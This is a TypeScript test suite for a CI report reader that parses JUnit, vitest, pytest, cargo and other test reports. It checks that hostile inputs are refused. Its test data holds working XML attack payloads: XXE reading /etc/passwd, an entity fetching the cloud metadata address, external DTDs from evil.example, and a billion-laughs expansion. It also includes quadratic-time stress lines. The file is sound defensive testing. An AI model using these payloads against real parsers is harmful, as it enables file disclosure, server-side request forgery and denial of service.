import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { reportLimits } from '../../action/core/workflows/verify/reports/parsed-report.ts';
import {
  type CaseFormat,
  readReport,
} from '../../action/core/workflows/verify/reports/read-report.ts';

function read(text: string, format: CaseFormat = 'junit') {
  return readReport(format, new TextEncoder().encode(text), { workspace: '/w', isFile: true });
}

const good = '<testsuite><testcase name="a"/></testsuite>';
const laughs = Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at};`.repeat(10)}">`,
).join('');

/** Documents that harm parsers which mean well. */
const hostile: readonly (readonly [string, string, RegExp])[] = [
  [
    'an entity that reads a file (XXE)',
    `<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&x;"/></testsuite>`,
    /document type/,
  ],
  [
    'an entity that asks a server',
    `<!DOCTYPE t [<!ENTITY x SYSTEM "http://169.254.169.254/">]>${good}`,
    /document type/,
  ],
  [
    'a parameter entity',
    `<!DOCTYPE t [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${good}`,
    /document type/,
  ],
  [
    'a billion laughs',
    `<!DOCTYPE t [<!ENTITY lol0 "lol">${laughs}]><testsuite><testcase name="&lol9;"/></testsuite>`,
    /document type/,
  ],
  [
    'an external document type',
    `<!DOCTYPE t SYSTEM "http://evil.example/x.dtd">${good}`,
    /document type/,
  ],
  ['a document type in odd case', `<!doctype t>${good}`, /document type|not XML/],
  ['a document type behind a comment', `<!-- ok --><?x y?><!DOCTYPE t>${good}`, /document type/],
  ['an entity nobody declared', '<testsuite><testcase name="&x;"/></testsuite>', /not XML/],
  ['a very deep tree', `${'<testsuite>'.repeat(100_000)}`, /nests too deeply/],
  [
    'a case inside a case',
    '<testsuite><testcase><testcase/></testcase></testsuite>',
    /inside another/,
  ],
  ['an attribute twice', '<testsuite><testcase name="a" name="b"/></testsuite>', /not XML/],
  ['two roots', `${good}${good}`, /not XML/],
  ['markup that never closes', '<testsuite><![CDATA[', /not XML/],
  ['a control character', '<testsuite><testcase name="a\u0001"/></testsuite>', /not XML/],
  ['HTML', '<!DOCTYPE html><html></html>', /document type/],
];

describe('C10: reports that want more than to be read', () => {
  it.each(hostile)('[C10] %s is refused, and nothing in it counts', (_, text, because) => {
    const report = read(text);

    expect(report.problem).toMatch(because);
    expect(report.cases).toEqual([]);
  });

  it('[C10] totals are never believed: the cases are counted', () => {
    const forged =
      '<testsuites tests="100" failures="0" errors="0"><testsuite tests="100" failures="0"><testcase name="a"><failure/></testcase><testcase name="b"/></testsuite></testsuites>';
    const json = JSON.stringify({
      success: true,
      numTotalTests: 100,
      numPassedTests: 100,
      numFailedTests: 0,
      testResults: [
        { name: 'a', status: 'passed', assertionResults: [{ title: 't', status: 'failed' }] },
      ],
    });

    expect(read(forged).cases.map(({ outcome }) => outcome)).toEqual(['failed', 'passed']);
    expect(read(json, 'vitest').cases.map(({ outcome }) => outcome)).toEqual(['failed']);
  });

  it('[C10] what stands in text, CDATA or comments is no element', () => {
    const text = `<testsuite><testcase name="a"><failure><![CDATA[</failure></testcase><testcase name="fake"/>]]></failure></testcase><!-- <testcase name="b"/> --></testsuite>`;

    expect(read(text).cases).toEqual([{ name: 'a', outcome: 'failed' }]);
  });

  it('[C10] more cases than the limit are a problem, and so is a larger report', () => {
    const many = `<testsuite>${'<testcase name="a"/>'.repeat(reportLimits.cases + 1)}</testsuite>`;

    expect(read(many).cases).toHaveLength(reportLimits.cases);
    expect(read(many).problem).toMatch(/more than 200000 cases/);
    expect(
      readReport('junit', new Uint8Array(reportLimits.bytes + 1), {
        workspace: '/w',
        isFile: true,
      }).problem,
    ).toMatch(/larger than 32 MB/);
  });

  const formats: readonly CaseFormat[] = ['junit', 'vitest', 'go-test', 'cargo', 'pytest', 'tap'];

  it('[C10] no text makes a reader throw, in whatever format it is read', () => {
    const piece = fc.constantFrom(
      ...['<testsuite>', '</testsuite>', '<testcase name="', '"/>', '<![CDATA[', ']]>', '&#x', ';'],
      ...[
        '{"Action":"',
        'running 3 tests\n',
        'test a ... ok\n',
        '{"testResults":[',
        '1..',
        'ok 1\n',
      ],
      ...['=== short test summary info ===\n', 'PASSED a::b\n', '1 passed in 1s\n', '\0', '\n'],
    );
    const text = fc
      .array(fc.oneof(piece, fc.string()), { maxLength: 40 })
      .map((all) => all.join(''));
    fc.assert(
      fc.property(text, (written) => {
        for (const format of formats)
          for (const isFile of [true, false]) {
            const bytes = new TextEncoder().encode(written);
            const { cases, problem } = readReport(format, bytes, { workspace: '/w', isFile });
            expect(Array.isArray(cases)).toBe(true);
            expect(['string', 'undefined']).toContain(typeof problem);
          }
      }),
      { numRuns: 300 },
    );
  });

  it('[C10] no line takes time that grows faster than its length', () => {
    const patterns = [
      `test ${'a '.repeat(200_000)}`,
      `SKIPPED [1] ${':1'.repeat(200_000)}`,
      `${'='.repeat(400_000)} short test summary info`,
      `1 passed in ${'1.'.repeat(200_000)}`,
      `test result: ok. ${'1'.repeat(400_000)}`,
      `PASSED ${' - '.repeat(130_000)}`,
    ];
    for (const line of patterns) {
      const text = `running 1 test\n=== short test summary info ===\n${line}\n1 passed in 0.1s\n`;
      const once = elapsed(() => read(text, 'cargo'));
      const summary = elapsed(() =>
        readReport('pytest', new TextEncoder().encode(text), { workspace: '/w', isFile: false }),
      );
      // Quadratic time would be minutes here.
      expect(once + summary).toBeLessThan(20_000);
    }
  });
});

function elapsed(work: () => unknown): number {
  const start = performance.now();
  work();
  return performance.now() - start;
}
